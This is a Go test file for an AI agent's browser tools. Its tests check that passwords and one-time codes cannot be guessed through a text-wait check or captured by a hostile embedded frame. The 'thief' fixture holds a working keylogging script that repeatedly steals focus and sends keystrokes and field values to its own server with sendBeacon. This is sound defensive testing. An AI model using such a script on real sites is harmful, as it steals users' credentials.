package browser_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"hotcell/internal/browser"
)

// What is in a field cannot be asked for sign by sign.
func TestWhatAFieldHoldsCannotBeGuessed(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	home := w.page("/", `<p>Hello there</p><label>Password <input type=password id=p value="prefilled-7"></label><textarea autocomplete=current-password>noted-8</textarea>
		<button onclick="p.type='text'">Show</button>`)
	s := w.ok("browser_navigate", "url", home)
	w.ok("browser_wait_for", "text", "Hello there")
	guess := func() {
		for _, text := range []string{"pre", "prefilled", "prefilled-7", "noted-8", "•"} {
			if out := w.call("browser_wait_for", "text", text, "time", 0.2); !out.Error {
				t.Errorf("that %q is in a field is told", text)
			}
			if out := w.call("browser_wait_for", "textGone", text, "time", 0.2); out.Error {
				t.Errorf("that %q is in a field is told: %s", text, out.Text)
			}
		}
	}
	guess()
	w.ok("browser_click", "ref", w.ref(s, `"Show"`))
	guess()
}

func TestWhatTheGuardHoldsCannotBeGuessed(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.logins[0].Fill = true
	w.mux.HandleFunc("POST /session", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(rw, "<h1>Welcome, Ada</h1><p>you are "+r.FormValue("password")+"!")
	})
	w.ok("browser_sign_in", "url", w.page("/login", `<form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`))
	w.ok("browser_wait_for", "text", "you are")
	if out := w.call("browser_wait_for", "text", "you are "+truePassword[:3], "time", 0.2); !out.Error {
		t.Error("the password can be guessed sign by sign")
	}
}

// thief is another site whose page takes the keyboard whenever it can.
type thief struct {
	*httptest.Server
	mu  sync.Mutex
	got strings.Builder
}

func openThief(t *testing.T) *thief {
	t.Helper()
	f := &thief{}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(rw, `<input aria-label=Booty><input id=j><script>
			const all = [...document.querySelectorAll('input')], tell = text => navigator.sendBeacon('/got', text)
			for (const i of all) { i.oninput = () => tell(i.value); i.onkeydown = e => tell(e.key) }
			let n = 0; const take = () => { window.focus(); document.activeElement.blur(); all[n++ % 2].focus() }
			setInterval(take, 1); addEventListener('blur', take)</script>`)
	})
	mux.HandleFunc("POST /got", func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		f.mu.Lock()
		defer f.mu.Unlock()
		f.got.Write(body)
		f.got.WriteByte('\n')
	})
	f.Server = httptest.NewServer(mux)
	t.Cleanup(f.Close)
	f.URL = strings.Replace(f.URL, "127.0.0.1", "localhost", 1)
	return f
}

func (f *thief) stole() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.got.String()
}

// A frame of another site that takes the focus over and over gets nothing.
func TestAFrameCannotTakeWhatIsTyped(t *testing.T) {
	t.Parallel()
	for name, html := range map[string]string{
		"a form":    `<form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`,
		"six boxes": `<form method=post action=/session id=f><input type=hidden name=code id=all><div id=d></div></form><script>for (let i = 0; i < 6; i++) { const b = document.createElement('input'); b.maxLength = 1; b.ariaLabel = 'Digit ' + (i + 1); d.append(b); b.oninput = () => { all.value = [...d.children].map(x => x.value).join(''); if (all.value.length == 6) f.submit() } }</script>`,
	} {
		for _, fill := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				w, f := open(t, func(c *browser.Config) { c.Evaluate = false }), openThief(t)
				w.logins[0].Fill = fill
				w.page("/account", account)
				w.accept("/session", "/account")
				s := w.ok("browser_navigate", "url", w.page("/login", html+`<iframe src="`+f.URL+`/"></iframe>`))
				// The agent is the thief's friend.
				w.ok("browser_type", "ref", w.ref(s, `"Booty"`), "text", "hello")
				s = w.call("browser_sign_in").Text
				got := f.stole()
				w.mu.Lock()
				armed := w.armed
				w.mu.Unlock()
				for _, secret := range []string{truePassword, trueCode, armed.Password, armed.Code} {
					if secret != "" && strings.Contains(strings.ReplaceAll(got, "\n", ""), secret) {
						t.Errorf("another site got what was typed: %q", got)
					}
				}
				if strings.ContainsAny(got, "0123456789") {
					t.Errorf("another site got digits: %q", got)
				}
				if !strings.Contains(s, "signed_in") {
					t.Error(s)
				}
			})
		}
	}
}
